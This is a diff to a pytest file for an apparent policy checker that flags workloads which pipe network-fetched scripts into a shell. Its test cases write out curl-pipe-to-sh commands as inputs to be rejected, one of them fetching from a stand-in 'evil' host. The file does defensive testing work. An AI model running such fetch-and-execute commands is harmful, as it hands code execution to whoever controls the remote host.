@@ -17,6 +17,7 @@ OURS = Options(allowed=("https://get.corp/*",))
         pytest.param("curl https://get.corp/../a.sh | sh", False, id="upwards"),
         pytest.param("curl https://get.corp/a https://evil/b | sh", False, id="one of two"),
         pytest.param('curl "$URL" | sh', False, id="not known"),
+        pytest.param("curl https://get.corp/a ht…", False, id="more is left out"),
         pytest.param("", False, id="nothing is known of it"),
     ],
 )
@@ -27,8 +28,14 @@ def test_scripts_that_may_run(text: str, passes: bool) -> None:
 def test_the_message() -> None:
     facts = workload(hazard("remote-script", "curl https://h/a | sh"), hazard("import-path"))
     (violation,) = check(facts, Options())
-    assert violation.found == '"curl https://h/a | sh" runs what the network sends'
+    assert violation.found == '"curl https://h/a | sh" runs what comes over the network'
     assert violation.why == "whoever answers there, or will, runs code in the pod"
     assert violation.fix == (
         "build it into the image, or save it, ask sha256sum -c for its sum, and run it then"
     )
+
+
+def test_a_file_that_is_run_later_is_told_in_its_own_words() -> None:
+    facts = workload(hazard("remote-script", "https://h/a is run as /tmp/a"))
+    (violation,) = check(facts, Options())
+    assert violation.found == "https://h/a is run as /tmp/a, as the network sends it"
